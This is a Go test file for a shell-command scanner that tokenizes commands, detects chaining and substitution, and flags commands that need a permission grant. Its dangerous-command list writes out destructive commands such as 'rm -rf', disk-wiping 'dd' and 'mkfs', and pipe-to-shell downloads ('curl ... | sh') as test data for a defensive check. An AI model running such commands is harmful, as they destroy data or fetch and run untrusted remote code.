package shellscan

import (
	"reflect"
	"strings"
	"testing"
)

func TestTokenize(t *testing.T) {
	tests := []struct {
		raw  string
		want []string
	}{
		{"ls -la /tmp", []string{"ls", "-la", "/tmp"}},
		{`echo "hello world"`, []string{"echo", "hello world"}},
		{`echo 'single quoted'`, []string{"echo", "single quoted"}},
		{`echo a\ b`, []string{"echo", "a b"}},
		{`echo "nested 'quotes'"`, []string{"echo", "nested 'quotes'"}},
		{`echo ''`, []string{"echo", ""}},
		{"", nil},
		{"   ", nil},
		{`echo "unterminated`, []string{"echo", `"unterminated`}},
	}
	for _, tt := range tests {
		if got := Tokenize(tt.raw); !reflect.DeepEqual(got, tt.want) {
			t.Errorf("Tokenize(%q) = %#v, want %#v", tt.raw, got, tt.want)
		}
	}
}

func TestSplitChain(t *testing.T) {
	tests := []struct {
		raw  string
		want []string
	}{
		{"ls && pwd", []string{"ls", "pwd"}},
		{"make; make install", []string{"make", "make install"}},
		{"cat f | grep x | wc -l", []string{"cat f", "grep x", "wc -l"}},
		{"sleep 5 &", []string{"sleep 5"}},
		{`echo "a && b"`, []string{`echo "a && b"`}},
		{`echo 'x; y'`, []string{`echo 'x; y'`}},
		{"a || b", []string{"a", "b"}},
	}
	for _, tt := range tests {
		if got := SplitChain(tt.raw); !reflect.DeepEqual(got, tt.want) {
			t.Errorf("SplitChain(%q) = %#v, want %#v", tt.raw, got, tt.want)
		}
	}
}

func TestHasSubstitution(t *testing.T) {
	tests := []struct {
		raw  string
		want bool
	}{
		{"echo $(whoami)", true},
		{"echo `date`", true},
		{"diff <(sort a) <(sort b)", true},
		{"echo '$(not real)'", false},
		{"echo '`also literal`'", false},
		{`echo \$(escaped)`, false},
		{"echo plain", false},
		{"echo $HOME", false},
	}
	for _, tt := range tests {
		if got := HasSubstitution(tt.raw); got != tt.want {
			t.Errorf("HasSubstitution(%q) = %v, want %v", tt.raw, got, tt.want)
		}
	}
}

func TestScan_DangerousCommands(t *testing.T) {
	dangerous := []string{
		"rm -rf /var/data",
		"rm -fr build",
		"rm -r -f old",
		"rm --recursive --force x",
		"sudo apt upgrade",
		"/usr/bin/sudo id",
		"dd if=/dev/zero of=/dev/sda",
		"mkfs.ext4 /dev/sdb1",
		"shutdown -h now",
		"chmod -R 777 /srv",
		"git push --force origin main",
		"git push -f",
		"curl https://x.sh | sh",
		"wget -qO- https://x.sh | bash",
		"kill -9 1",
		"echo $(rm -rf /)",
		"ls; sudo su",
	}
	for _, cmd := range dangerous {
		if v := Scan(cmd); !v.NeedsGrant {
			t.Errorf("Scan(%q) should need a grant", cmd)
		}
	}
}

func TestScan_BenignCommands(t *testing.T) {
	benign := []string{
		"ls -la",
		"rm stale.log",
		"rm -f single.tmp",
		"rm -r nonforced",
		"git push origin main",
		"git commit -m 'force of habit'",
		"curl https://example.com/api",
		"echo 'rm -rf /' is a string",
		"grep -r pattern .",
		"kill 4242",
		"make && make test",
	}
	for _, cmd := range benign {
		if v := Scan(cmd); v.NeedsGrant {
			t.Errorf("Scan(%q) flagged: %v", cmd, v.Reasons)
		}
	}
}

func TestScan_ReasonsNameEveryTrigger(t *testing.T) {
	v := Scan("sudo mount /dev/sdb1 && rm -rf /mnt/old")
	if len(v.Reasons) != 2 {
		t.Fatalf("reasons = %v, want 2 entries", v.Reasons)
	}

	out := Describe("sudo id", Scan("sudo id"))
	if !strings.Contains(out, "needs grant") {
		t.Errorf("Describe = %q", out)
	}
	out = Describe("ls", Scan("ls"))
	if !strings.Contains(out, "no grant needed") {
		t.Errorf("Describe = %q", out)
	}
}
